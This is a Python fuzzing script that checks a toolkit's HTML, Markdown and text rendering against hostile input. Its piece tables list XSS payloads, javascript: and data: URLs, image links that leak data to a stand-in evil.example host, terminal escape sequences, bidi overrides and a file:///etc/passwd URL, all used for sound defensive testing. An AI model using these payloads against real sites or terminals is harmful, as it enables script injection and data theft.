"""Show every kind of value with hostile text in every field, and see that nothing of it gets past its form.

    python benchmarks/fuzz_display.py [--seconds 600] [--seed 1] [--keep DIR] [--again FILE]

The values are those of ``tests/every_kind.py``: at least one of each kind that can be shown, made by the verbs. The
hostile text is put together at random from pieces of HTML, Markdown, URLs, escape sequences and odd characters. What
must hold for each:

- HTML: every ``<`` opens or closes one of ``TAGS``; every attribute is one of ``ATTRIBUTES`` with quotes around it;
  elements are closed in order; ``style`` loads nothing and moves nothing; ``href`` is http or https, with a host and
  without a user name, or leads to a place in the document itself.
- Markdown (read by markdown-it, as CommonMark with tables): no HTML, no picture, no link but to the articles' own
  addresses, and no block or mark of a kind that a harmless word in the same places does not make.
- All of it, and ``repr``: no character that acts on a terminal or turns the order of what is shown.
- All of it is UTF-8, and no process is started and no connection made.
"""

# ruff: noqa: E501 -- tables of pieces

from __future__ import annotations

import random
import re
import sys
from functools import cache
from html import unescape
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import fuzzing
from markdown_it import MarkdownIt

sys.path.insert(0, str(Path(__file__).parent.parent / "tests"))

import every_kind

from toolkit.display import shared, to_html, to_markdown, to_page, to_text

TAGS = frozenset(
    "a b bdi blockquote br caption cite code dd del details div dl dt em h1 h2 h3 h4 i ins li mark ol p pre s section small "
    "span strong sub summary sup table tbody td th thead tr ul wbr".split()
)
"""The elements of our HTML in notebooks."""

ATTRIBUTES = frozenset("style class title href target rel open scope colspan rowspan lang dir start".split())
"""Their attributes."""

_PAGE_TAGS = TAGS | frozenset("html head meta title style body main article header footer section nav".split())
_PAGE_ATTRIBUTES = ATTRIBUTES | {"charset", "name", "content", "id", "http-equiv"}
FRAME = ('<div class="tex2jax_ignore mathjax_ignore">', "</div>")
"""The only HTML of our Markdown: it keeps notebooks from reading dollars as mathematics."""

_VOID = frozenset({"br", "wbr", "meta"})
_TAG = re.compile(r"<(/?)([a-z][a-z0-9]*)((?: [a-z-]+=\"[^\"<>]*\")*)>")
_ATTRIBUTE = re.compile(r" ([a-z-]+)=\"([^\"<>]*)\"")
_BAD_STYLE = re.compile(r"url\(|expression|@|\\|position\s*:|behavior|-moz-binding|content\s*:|/\*", re.IGNORECASE)
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufeff]")

_PIECES = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=//evil.example>", "<style>*{display:none}</style>",
    "<a href=javascript:alert(1)>x</a>", "<b", "</div>", "</details>", "</td></tr></table>", "<!--", "-->", "<![CDATA[", "]]>", "<?php ?>", "<details open>",
    "&lt;script&gt;", "&#60;img src=x&#62;", "&amp;lt;", "&#x6a;avascript:", "&colon;", "&Tab;", "&NewLine;", "&", "&#0;", "&#10;&#10;", "&quot;", "'", '"', "`",
    '" onmouseover="alert(1)', "' onfocus='alert(1)", "=", ">", "<", "/>", "\\", "{{7*7}}", "{% x %}", "${7*7}", "%0d%0a",
    "![x](http://evil.example/?q=secret)", "![x][r]", "[x](javascript:alert(1))", "[x](http://evil.example)", "[r]: http://evil.example/r", "[^1]: note", "[^1]",
    "<http://evil.example/a>", "<javascript:alert(1)>", "http://evil.example/plain", "www.evil.example", "evil@evil.example", "[x]: <javascript:x> 't'",
    "![", "](", "](http://evil.example)", "]", "[", ")", "(", "[[", "[x][]", "\\[x\\](http://evil.example)", "\\", "\\\\",
    "# h", "#", "## ", "- ", "* ", "+ ", "1. ", "1) ", "> ", ">", "```", "~~~", "```html", "    code", "\tcode", "---", "***", "===", "___", "| a | b |", "|---|---|", "|",
    "**b**", "__b__", "*i*", "_i_", "~~s~~", "`c`", "``c``", "$x^2$", "$$", "\\(x\\)", "\\begin{x}", "<br>", "  \n", "\\\n", ":::", "==m==", "^s^", "[ ] ",
    "\x1b[2J", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x1b]0;t\x07", "\x9b31m", "\x9d0;t\x9c", "\x1b", "\x07", "\x08" * 9, "\r", "\x7f", "\0", "\x1bP", "\x85", "\x90",
    "\u202e", "\u202d", "\u2066", "\u2069", "\u200f", "\u061c", "\u200b", "\u200d", "\ufeff", "\u2028", "\u2029", "\x0b", "\x0c", "\ud800", "\udc80", "\ufffe", "\U000e0041",
    "a\u0301\u0335", "\u0301" * 30, "ﷺ", "𒐫", "漢" * 50, "w" * 200, "שלום", "\n", "\n\n", "\n\n\n", " ", "  ", "\t", "\u00a0", "\u3000", "word", "Poland", "1", "2025-08-19",
    "javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "vbscript:x", "//evil.example", "https://a@evil.example/", "https://evil.example\\@good.example",
)  # fmt: skip
_URLS = (
    None, "https://news.example/a?b=1&c=2#d", "javascript:alert(1)", "data:text/html,<b>", "https://a@evil.example/", "//evil.example", "https://news.example/\" onclick=\"x",
    "https://news.example/)(<>[]`|*_", "HTTPS://NEWS.example/ä b", "http://[::1]/", "http://[", "https://news.example/\u202egpj", "https://news.example/%0a%0d", "ftp://x.example/", "https:///x",
    "https://news.example/a\\b", "http://news.example/'><script>", "https://xn--80ak6aa92e.example/", "https://news.example/" + "x" * 3000, "about:blank", " https://news.example/", "https://news.example/]](x)",
)  # fmt: skip


@cache
def values() -> tuple[Any, ...]:
    """One of each kind."""
    return every_kind.shown_samples()


def make(chance: random.Random) -> fuzzing.Case:
    """Which value, and what is put into it."""
    seams = chance.choice((("",), ("", " "), ("", " ", "\n"), ("\n", "\n\n")))
    pieces = [chance.choice(_PIECES) + chance.choice(seams) for _ in range(chance.choice((1, 2, 3, 5, 9, 20)))]
    return {"value": [chance.randrange(len(values()))], "text": pieces, "url": [chance.choice(_URLS)]}


def check(case: fuzzing.Case) -> str:
    """See that what is promised holds."""
    text, url = "".join(case["text"]), case["url"][0] if case["url"] else None
    if not case["value"] or not text.strip():
        return "nothing"
    clean = values()[case["value"][0]]
    value = every_kind.poisoned(clean, text, url)
    with fuzzing.nothing_done():
        html, markdown, plain, named = to_html(value), to_markdown(value), to_text(value), repr(value)
        page = to_page(value) if case["value"][0] % 5 == 0 else ""
    for form, said in (("HTML", html), ("Markdown", markdown), ("text", plain), ("page", page), ("repr", named)):
        if re.search("[\ud800-\udfff]", said):
            raise AssertionError(f"{form} that is not UTF-8: {said[:80]!r}")
        found = ACTING.search(said)
        if found:
            shown = said[max(0, found.start() - 60) : found.end() + 20]
            raise AssertionError(f"{form} that acts on a terminal: {shown!r}")
    well_formed(html, TAGS, ATTRIBUTES)
    well_formed(page.removeprefix("<!doctype html>"), _PAGE_TAGS, _PAGE_ATTRIBUTES)
    _marks_only(markdown, case["value"][0], url)
    return type(clean).__name__


def well_formed(html: str, tags: frozenset[str], attributes: frozenset[str]) -> None:
    """See that HTML has only these elements and attributes, closed in order, and links that are links."""
    html = re.sub(r"<style>[^<]*</style>", "", html) if "html" in tags else html
    opened, at = [], 0
    while (at := html.find("<", at)) >= 0:
        found = _TAG.match(html, at)
        if not found or found[2] not in tags:
            raise AssertionError(f"HTML that is not ours: {html[max(0, at - 60) : at + 80]!r}")
        if found[1]:
            if not opened or opened.pop() != found[2]:
                raise AssertionError(f"HTML out of order: {html[max(0, at - 80) : at + 20]!r}")
        elif found[2] not in _VOID:
            opened.append(found[2])
        for name, said in _ATTRIBUTE.findall(found[3]):
            _attribute(name, unescape(said), attributes)
        at = found.end()
    if opened:
        raise AssertionError(f"HTML left open: {opened}")
    stray = re.search(r">", _TAG.sub("", html))
    if stray:
        raise AssertionError(f"HTML with a stray sign: {html[:80]!r}")


def _attribute(name: str, said: str, attributes: frozenset[str]) -> None:
    if name not in attributes:
        raise AssertionError(f"HTML attribute {name}: {said[:80]!r}")
    if name == "style" and _BAD_STYLE.search(said):
        raise AssertionError(f"HTML style: {said[:200]!r}")
    if name == "href" and not said.startswith("#"):
        parts = urlsplit(said)
        if parts.scheme.lower() not in ("http", "https") or not parts.hostname or "@" in parts.netloc:
            raise AssertionError(f"HTML href: {said[:80]!r}")
        if re.search(r"[\s\x00-\x20\\]", said):
            raise AssertionError(f"HTML href: {said[:80]!r}")


_COMMONMARK = MarkdownIt("commonmark").enable("table").enable("strikethrough")


def tokens_of(markdown: str) -> list[Any]:
    """The blocks of a text, each with what stands in it behind it."""
    return [one for block in _COMMONMARK.parse(markdown) for one in (block, *(block.children or ()))]


def _links(tokens: list[Any]) -> set[str]:
    return {str(token.attrGet("href")) for token in tokens if token.type == "link_open"}


@cache
def _harmless(place: int, linked: bool) -> tuple[frozenset[str], frozenset[str]]:
    """Kinds of marks, and links, when a plain word stands wherever hostile text would."""
    url = "https://news.example/harmless" if linked else None
    tokens: list[Any] = []
    for word in ("word", "word two. Three four", "a\n\nb"):
        tokens += tokens_of(to_markdown(every_kind.poisoned(values()[place], word, url)))
    return frozenset(f"{one.type} {one.tag}" for one in tokens), frozenset(_links(tokens))


def _marks_only(markdown: str, place: int, url: str | None) -> None:
    tokens = tokens_of(markdown)
    kinds, links = _harmless(place, shared.link(url) is not None)
    for token in tokens:
        if token.type == "html_block" and token.content.strip() in FRAME:
            continue
        if token.type in ("html_block", "html_inline", "image"):
            raise AssertionError(f"Markdown with {token.type}: {token.content[:100]!r}")
        kind = f"{token.type} {token.tag}"
        if kind not in kinds and token.type not in ("text", "softbreak", "hardbreak", "text_special"):
            raise AssertionError(f"Markdown with {kind}: {token.content[:100]!r}")
    for href in _links(tokens) - links:
        if url is None or _host(href) != _host(url) or shared.link(url) is None:
            raise AssertionError(f"Markdown link: {href[:100]!r}")


def _host(url: str) -> str:
    return unquote(urlsplit(unquote(url) if "%5B" in url else url).netloc).lower()


def main() -> None:
    """Run from the command line."""
    options = fuzzing.parser(__doc__).parse_args()
    values()
    fuzzing.main(make, check, options, lambda: f"{len(values())} values of {len({type(v) for v in values()})} kinds")


if __name__ == "__main__":
    main()
